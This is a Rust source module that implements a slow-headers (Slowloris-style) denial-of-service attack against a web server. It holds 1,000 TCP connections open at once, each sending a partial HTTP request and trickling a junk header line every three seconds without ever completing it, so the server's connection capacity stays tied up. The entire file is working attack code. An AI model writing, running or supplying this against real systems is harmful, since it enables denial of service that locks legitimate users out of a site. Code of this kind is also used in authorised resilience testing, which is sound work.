//! Slow headers: connections that send a request one line every few seconds and
//! never end it.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::{Field, hold};

/// Connections held at a time.
const CONNECTIONS: usize = 1_000;

/// Between two lines of one request.
const LINE_EVERY: Duration = Duration::from_secs(3);

pub(super) fn start(tasks: &mut JoinSet<()>, field: &Arc<Field>) {
    let over = Duration::from_secs(1);
    hold(
        tasks,
        field,
        (CONNECTIONS, over),
        |field| async move { connection(&field).await.unwrap_or("refused") },
    );
}

/// Until the server has enough; what it did.
async fn connection(field: &Field) -> io::Result<&'static str> {
    let mut stream = TcpStream::connect(field.site.address).await?;
    let start = format!("GET / HTTP/1.1\r\nhost: {}\r\n", field.site.host);
    stream.write_all(start.as_bytes()).await?;
    let mut answer = [0; 64];
    loop {
        tokio::select! {
            read = stream.read(&mut answer) => {
                return Ok(match read {
                    Ok(0) | Err(_) => "cut",
                    Ok(_) => "answered",
                });
            }
            () = sleep(LINE_EVERY) => {
                if stream.write_all(b"x-a: b\r\n").await.is_err() {
                    return Ok("cut");
                }
            }
        }
    }
}
